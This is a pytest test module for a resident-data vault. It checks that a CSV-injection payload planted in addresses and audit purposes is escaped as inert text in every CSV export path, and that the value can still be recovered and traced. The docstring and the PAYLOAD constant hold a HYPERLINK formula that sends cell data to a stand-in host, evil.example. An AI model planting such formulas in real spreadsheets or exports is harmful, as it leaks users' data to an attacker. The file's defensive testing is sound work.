"""CSV injection: no CSV the vault writes carries a live spreadsheet formula.

A worker with write access types `=HYPERLINK("http://evil.example/?d="&A2,"click")` into a
resident's address; a client sends it as its `Purpose` header. Every CSV the vault writes
(a department's export, a resident's own copy over the API, the portal and the CLI, the
auditors' log over the API and the console) must show it as text, keep the exact value
recoverable, and leave exports traceable. One demo service serves the module, with the
pages' client registered for an in-process browser at https://testserver.
"""

from __future__ import annotations

import csv
import io
import json
import random
import secrets
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import cast
from urllib.parse import quote

import httpx
import pytest
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st

from access.exports.fingerprints import (
    ExportKey,
    cell_text,
    csv_cells,
    csv_header,
    csv_line,
    csv_observations,
    mark_key,
    row_marks,
)
from access.exports.records import ExportRecord
from access.exports.trace import read_leak, score_exports
from api.http.app import create_app
from api.oauth.service import create_user
from audit import EntryDraft
from tests.browser.server import prepare, sign_in
from tests.demo_server import DemoServer, residents_in, run_cli, serving
from vault.interfaces import Keyring
from vault.models import Resident
from vault.pseudonyms import Pseudonyms
from vault.services import NewResident, Provenance, Validated
from vault.spreadsheet import ESCAPE, FORMULA_TRIGGERS, csv_row, neutralise_cell, recover_cell

ORIGIN = "https://testserver"
CIVIL, PURPOSE = "org_civil_affairs", "subsidy-review"
PROBE = "org_health"  # sends the formula purposes; nothing else in this module uses it
PAYLOAD = 'HYPERLINK("http://evil.example/?d="&A2,"click")'
TRIGGERS = sorted(FORMULA_TRIGGERS)
# Values the attack writes: each trigger, and one that begins with the escape itself.
VALUES = [c + PAYLOAD for c in TRIGGERS] + [ESCAPE + "=" + PAYLOAD]


@dataclass
class Planted:
    resident_id: str
    address: str
    username: str
    password: str


@dataclass
class Vault:
    server: DemoServer
    planted: list[Planted]
    purposes: list[str]


@pytest.fixture(scope="module")
def vault(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Vault]:
    home = tmp_path_factory.mktemp("csv-injection")
    settings_, credentials = prepare(home / "home", f"sqlite:///{home / 'vault.db'}", ORIGIN)
    app = create_app(settings_)
    with serving(app) as port:
        server = DemoServer(f"http://127.0.0.1:{port}", credentials, settings_, app)
        yield Vault(server, plant_residents(server), plant_purposes(server))


def plant_residents(server: DemoServer) -> list[Planted]:
    """A resident per value, each with an account. The community worker writes the value
    through the API; a tab or CR the API's validators refuse, so those go in through the
    store, as imported or legacy data would."""
    runtime, store = server.runtime, server.runtime.vault.store
    worker = server.user("community_worker")
    token = server.login(worker["username"], worker["password"], "residents:read residents:write")
    headers = {"Authorization": f"Bearer {token['access_token']}", "Purpose": "counter-service"}
    planted = []
    with runtime.vault.sessions() as session:
        neighbour = session.get(Resident, residents_in(server, "cm_xingfu")[0])
        assert neighbour is not None
        household = neighbour.household_id
    for number, value in enumerate(VALUES):
        by_api = value[:1] not in "\t\r"
        initial = Validated(
            {
                "name": f"测试{'甲乙丙丁戊己庚辛'[number]}",
                "address": "幸福小区1号楼" if by_api else value,
            }
        )
        username, password = f"csv-{secrets.token_hex(4)}", secrets.token_urlsafe(16)
        with runtime.transaction() as session:
            (resident_id,) = store.create_many(
                session, [NewResident(initial, household)], Provenance("tests", "import")
            )
            create_user(
                session,
                runtime.audit,
                username=username,
                password=password,
                role="resident",
                resident_id=resident_id,
                actor="tests",
            )
        if by_api:
            written = httpx.patch(
                f"{server.url}/v1/residents/{resident_id}",
                headers=headers,
                json={"fields": {"address": value}},
                timeout=30,
            )
            assert written.status_code == 200, written.text
        with runtime.vault.sessions() as session:
            assert store.read(session, resident_id, ["address"]) == {"address": value}
        planted.append(Planted(resident_id, value, username, password))
    return planted


def plant_purposes(server: DemoServer) -> list[str]:
    """Formula purposes in the log. The API refuses a Purpose outside the registry's format
    (422, nothing recorded: tests/test_bounds.py), so they are recorded through the log, as
    another channel (a CLI command, an older release) could have; the auditors' CSV must
    keep them inert all the same."""
    token = server.client_token(PROBE)
    resident = residents_in(server, "cm_hexie")[0]
    purposes = []
    for value in VALUES:
        if value[:1] not in "\t\r":  # HTTP strips those from a header anyway
            refused = httpx.get(
                f"{server.url}/v1/residents/{server.pseudonym(PROBE, resident)}",
                headers={"Authorization": f"Bearer {token}", "Purpose": value},
                timeout=30,
            )
            assert refused.status_code == 422, refused.text
            assert refused.json()["type"].endswith("/problems/validation-error")
        with server.runtime.transaction() as session:
            server.runtime.audit.record(
                session,
                [
                    EntryDraft(
                        action="read",
                        outcome="denied",
                        channel="api",
                        subject_type="department",
                        organisation=PROBE,
                        purpose=value,
                        resident_id=resident,
                    )
                ],
            )
        purposes.append(value)
    return purposes


# -- helpers -----------------------------------------------------------------------------------


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_inert(rows: list[list[str]]) -> None:
    """What a spreadsheet would run: a cell beginning with a formula trigger."""
    live = [cell for row in rows for cell in row if cell[:1] in FORMULA_TRIGGERS]
    assert not live, f"cells a spreadsheet would evaluate: {live[:3]}"


def column(rows: list[list[str]], name: str) -> list[str]:
    at = rows[0].index(name)
    return [row[at] for row in rows[1:]]


def field_value(rows: list[list[str]], name: str) -> str:
    """A field's cell in a resident's own copy (one row per field)."""
    return column(rows, "value")[column(rows, "field").index(name)]


def department_export(server: DemoServer, fmt: str = "csv") -> httpx.Response:
    response = httpx.get(
        f"{server.url}/v1/exports/residents",
        params={"format": fmt},
        headers={
            "Authorization": f"Bearer {server.client_token(CIVIL)}",
            "Purpose": PURPOSE,
            "Justification": quote("年度复核"),
        },
        timeout=60,
    )
    assert response.status_code == 200, response.text
    return response


def auditor_token(server: DemoServer) -> str:
    auditor = server.user("auditor")
    return str(server.login(auditor["username"], auditor["password"], "audit:read")["access_token"])


def pages(server: DemoServer) -> TestClient:
    """A browser on the pages of the running app (https, so its __Host- cookie is sent)."""
    return TestClient(server.app, base_url=ORIGIN)


# -- item 1: residents' values in every resident CSV -------------------------------------------


def test_a_formula_in_a_resident_field_is_text_in_the_department_export(vault: Vault) -> None:
    server = vault.server
    rows = rows_of(department_export(server).text)
    assert_inert(rows)
    at = rows[0].index("address")
    shown = {row[0]: row[at] for row in rows[1:]}
    for planted in vault.planted:
        cell = shown[server.pseudonym(CIVIL, planted.resident_id)]
        assert cell != planted.address and recover_cell(cell) == planted.address
    # NDJSON is data, not a sheet: it carries the exact value, unescaped.
    records = [json.loads(line) for line in department_export(server, "ndjson").text.splitlines()]
    raw = {r["resident_id"]: r["fields"].get("address") for r in records}
    for planted in vault.planted:
        assert raw[server.pseudonym(CIVIL, planted.resident_id)] == planted.address


def test_a_formula_in_a_resident_field_is_text_in_the_residents_own_copy(vault: Vault) -> None:
    server = vault.server
    for planted in vault.planted:
        token = server.login(planted.username, planted.password, "me")["access_token"]
        mine = httpx.get(
            f"{server.url}/v1/me/export",
            params={"format": "csv"},
            headers={"Authorization": f"Bearer {token}"},
            timeout=30,
        )
        assert mine.status_code == 200, mine.text
        rows = rows_of(mine.text)
        assert_inert(rows)
        assert recover_cell(field_value(rows, "address")) == planted.address
        as_json = httpx.get(
            f"{server.url}/v1/me/export",
            params={"format": "json"},
            headers={"Authorization": f"Bearer {token}"},
            timeout=30,
        )
        assert as_json.json()["fields"]["address"] == planted.address


def test_a_formula_in_a_resident_field_is_text_in_the_portal_download(vault: Vault) -> None:
    for planted in vault.planted:
        browser = pages(vault.server)
        sign_in(browser, "portal", planted.username, planted.password)
        download = browser.get("/portal/export.csv")
        assert download.status_code == 200, download.text[:300]
        rows = rows_of(download.text)
        assert_inert(rows)
        assert recover_cell(field_value(rows, "address")) == planted.address


def test_a_formula_in_a_resident_field_is_text_in_the_cli_export(
    vault: Vault, tmp_path: Path
) -> None:
    home, url = vault.server.settings.home, vault.server.settings.database_url or ""
    for planted in vault.planted:
        path = tmp_path / f"{planted.resident_id}.csv"
        # The resident's own copy, through the gate as the resident (issue 19).
        own = ("--as", planted.username, "--format", "csv", "-o", str(path))
        done = run_cli(home, url, "export", planted.resident_id, *own)
        assert done.returncode == 0, done.stderr
        with path.open(encoding="utf-8", newline="") as handle:
            rows = rows_of(handle.read())
        assert_inert(rows)
        assert recover_cell(field_value(rows, "address")) == planted.address


# -- item 2: clients' purposes in the auditors' CSV --------------------------------------------


def test_a_formula_purpose_is_text_in_the_auditors_csv_and_raw_in_json(vault: Vault) -> None:
    server = vault.server
    bearer = {"Authorization": f"Bearer {auditor_token(server)}"}
    params: dict[str, str | int] = {"organisation": PROBE, "limit": 1000}
    listed = httpx.get(
        f"{server.url}/v1/audit/entries",
        params={**params, "format": "csv"},
        headers=bearer,
        timeout=30,
    )
    assert listed.status_code == 200, listed.text
    rows = rows_of(listed.text)
    assert_inert(rows)
    purposes = column(rows, "purpose")
    assert sorted({recover_cell(p) for p in purposes} & set(VALUES)) == sorted(vault.purposes)
    as_json = httpx.get(
        f"{server.url}/v1/audit/entries", params=params, headers=bearer, timeout=30
    ).json()["items"]
    assert {e["purpose"] for e in as_json} >= set(vault.purposes)


def test_a_formula_purpose_is_text_in_the_console_download(vault: Vault) -> None:
    auditor = vault.server.user("auditor")
    browser = pages(vault.server)
    sign_in(browser, "console", auditor["username"], auditor["password"])
    download = browser.get("/console/export.csv", params={"organisation": PROBE})
    assert download.status_code == 200, download.text[:300]
    rows = rows_of(download.text)
    assert_inert(rows)
    assert {recover_cell(p) for p in column(rows, "purpose")} >= set(vault.purposes)


# -- traceability of an escaped export ---------------------------------------------------------


def test_trace_names_an_escaped_export_among_its_look_alikes(vault: Vault, tmp_path: Path) -> None:
    server = vault.server
    made = [department_export(server) for _ in range(3)]
    target = made[1]
    # Records end in CRLF; a cell may hold a lone CR (quoted), so split on CRLF only.
    lines = [record + "\r\n" for record in target.text.split("\r\n")[1:] if record]
    planted = {server.pseudonym(CIVIL, p.resident_id) for p in vault.planted}
    escaped = [line for line in lines if csv_cells(line)[0][0] in planted]
    assert len(escaped) == len(planted)
    others = [line for line in lines if line not in escaped]
    leaked = escaped + random.Random(11).sample(others, 15)
    random.Random(12).shuffle(leaked)
    path = tmp_path / "leaked.csv"
    path.write_text("".join(leaked), encoding="utf-8", newline="")
    settings_ = server.settings
    done = run_cli(settings_.home, settings_.database_url or "", "trace", str(path), "--json")
    assert done.returncode == 0, done.stderr
    best = json.loads(done.stdout)["best"]
    assert best["export_id"] == target.headers["Export-Id"] and best["posterior"] > 0.99


def test_a_decoy_row_with_escaped_cells_is_recognised_as_written_and_once_resaved() -> None:
    """Decoy marks are digests of the raw values; the tracer reads them back from the file
    as written (quote prefixed) and as a spreadsheet re-saves it (prefix dropped)."""
    master = bytes(range(32))
    records = [
        ExportRecord(
            id=f"exp_{i:032x}", recipient="x", pseudonymous=False, rows=1, decoys=[], decoy_marks={}
        )
        for i in range(2)
    ]
    names = [f"f{i}" for i in range(len(VALUES))]
    fields = dict(zip(names, VALUES, strict=True))
    decoy = "r_00000000000000de"
    records[0].decoys = [decoy]
    records[0].decoy_marks = {decoy: sorted(row_marks(mark_key(master), decoy, fields))}
    cells = [decoy, *(cell_text(v) for v in fields.values())]
    key = ExportKey.derive(master, records[0].id)
    written = csv_header(csv_row(["resident_id", *names])) + csv_line(csv_row(cells), key)
    buffer = io.StringIO()
    csv.writer(buffer).writerow(c for c in cells if c[:1] != ESCAPE)  # what a sheet shows
    for body in (written, buffer.getvalue()):
        scored = score_exports(
            read_leak(body.encode()),
            records,
            master,
            mark_key(master),
            Pseudonyms(cast(Keyring, None)),
        )
        evidence = {s.record.id: s.evidence["decoys"] for s in scored}
        assert evidence[records[0].id] > -1 > evidence[records[1].id]


# -- the rule, as properties -------------------------------------------------------------------

text = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=16)
# Text that begins with a trigger or the escape half the time: the cases that matter.
cell = st.one_of(text, st.builds(lambda c, t: c + t, st.sampled_from([*TRIGGERS, ESCAPE]), text))


@settings(max_examples=500, deadline=None)
@given(value=cell)
def test_recover_gives_back_the_exact_value_and_no_cell_begins_with_a_trigger(value: str) -> None:
    written = neutralise_cell(value)
    assert recover_cell(written) == value
    assert written[:1] not in FORMULA_TRIGGERS
    # Only cells that would run, or could be mistaken for escaped ones, change.
    assert (written == value) == (value[:1] not in {*FORMULA_TRIGGERS, ESCAPE})


@settings(max_examples=200, deadline=None)
@given(
    key=st.binary(min_size=32, max_size=32).map(ExportKey),
    cells=st.lists(cell, min_size=1, max_size=8),
)
def test_an_escaped_fingerprinted_record_reads_back_and_shows_its_keyed_bits(
    key: ExportKey, cells: list[str]
) -> None:
    line = csv_line(csv_row(cells), key)
    (read,) = rows_of(line)
    assert [recover_cell(c) for c in read] == cells
    assert_inert([read])
    # The quote bit is the export's choice for the text as written, so trace still reads it.
    for written, quoted in csv_observations(csv_cells(line)).items():
        assert quoted == key.bit("csv", written)


@settings(max_examples=200, deadline=None)
@given(rows=st.lists(st.lists(cell, min_size=1, max_size=6), min_size=1, max_size=5))
def test_a_csv_writer_row_round_trips_through_the_csv_module(rows: list[list[str]]) -> None:
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows(csv_row(row) for row in rows)
    read = rows_of(buffer.getvalue())
    assert_inert(read)
    assert [[recover_cell(c) for c in row] for row in read] == rows
